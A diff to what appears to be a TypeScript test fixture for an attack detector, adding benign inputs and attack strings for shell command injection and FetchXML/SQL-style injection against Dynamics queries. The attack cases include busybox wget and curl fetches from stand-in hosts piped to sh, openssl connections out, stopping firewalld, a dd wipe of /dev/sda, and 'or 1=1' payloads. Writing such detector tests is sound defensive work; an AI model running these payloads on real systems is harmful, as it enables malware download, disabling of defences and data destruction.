@@ -1,5 +1,8 @@
 import { asked, filled, type HonestKinds, sent, testKinds } from './honest-kinds.ts'
 
+const FETCH_XML =
+  '<fetch version="1.0" count="5"><entity name="opportunity"><filter type="and"><filter type="or"><condition attribute="statecode" operator="eq" value="0"/></filter></filter></entity></fetch>'
+
 /** Notations of other trades that hold the signs of an attack, and what stays an attack beside them. */
 const KINDS: HonestKinds = {
   'structures of molecules, whose brackets each close their own': {
@@ -49,6 +52,57 @@ const KINDS: HonestKinds = {
       asked('/s', { v: 'a(b|cat /etc/passwd)' }),
       asked('/s', { v: '(curl http://evil.example/x|sh)' }),
       asked('/s', { v: 'x`(a|sh)`' }),
+    ],
+  },
+  'programs that people name, and tell each other to run': {
+    honest: [
+      asked('/search', { q: '`systemctl stop nginx` or `chmod 600 a.key`' }),
+      filled({ comment: 'Please run `chmod 755 deploy.sh`, then `sudo systemctl restart nginx`.' }),
+      sent({ rule: 'objs := $(patsubst %.c,%.o,$(wildcard *.c))' }),
+      sent({ note: 'I used `/bin/busybox wget http://a.example/x` to get it.' }),
+      sent({ columns: 'time;id', order: 'start;time' }),
+      asked('/files', { path: '/tmp/report.csv' }),
+      sent({ script: "$(document).ready(() => $('#a').hide())" }),
+    ],
+    attacks: [
+      ...['$', 'x$'].flatMap(start =>
+        [
+          '/bin/busybox wget -g 198.51.100.7 -l /tmp/x',
+          'chmod 777 /tmp/x',
+          'openssl s_client -connect 198.51.100.7:443',
+          'systemctl stop firewalld',
+          '/tmp/x',
+          '/dev/shm/.x -d',
+          'dd if=/dev/zero of=/dev/sda',
+        ].flatMap(command => [
+          asked('/s', { q: `${start}(${command})` }),
+          sent({ to: `${start}(${command})` }),
+        ]),
+      ),
+      ...['sudo id', 'nohup id', 'timeout 5 id', '/usr/bin/env whoami', 'busybox id'].flatMap(command => [
+        asked('/s', { q: `x;${command}` }),
+        sent({ to: `x|${command}` }),
+      ]),
+      asked('/s', { q: '`/bin/busybox wget http://198.51.100.7/x -O /tmp/x`' }),
+      asked('/s', { q: 'x`openssl s_client -connect 198.51.100.7:443`' }),
+      asked('/s', { q: ';ftpget 198.51.100.7 x' }),
+    ],
+  },
+  'queries of Dynamics, and other markup whose attributes are operators': {
+    honest: [FETCH_XML, FETCH_XML.replaceAll('"', "'")].flatMap(query => [
+      asked('/api/data/v9.0/opportunities', { fetchXml: query }),
+      sent({ fetchXml: query }),
+      filled({ note: `Our query is ${query}` }),
+    ]),
+    attacks: [
+      asked('/s', { v: '1<a b="or">1' }),
+      asked('/s', { v: "1<a b='or'>1" }),
+      asked('/s', { v: '<a b="or"1' }),
+      asked('/s', { v: '<a b="or">" or "1"="1' }),
+      asked('/s', { v: '1="or">1' }),
+      asked('/s', { v: `${FETCH_XML}" or 1=1-- -` }),
+      sent({ fetchXml: FETCH_XML.replace('"or"', '"or" or "a"="a"') }),
+      filled({ v: `<filter type='or'>' or '1'='1` }),
     ],
   },
   'heights, in feet and inches': {
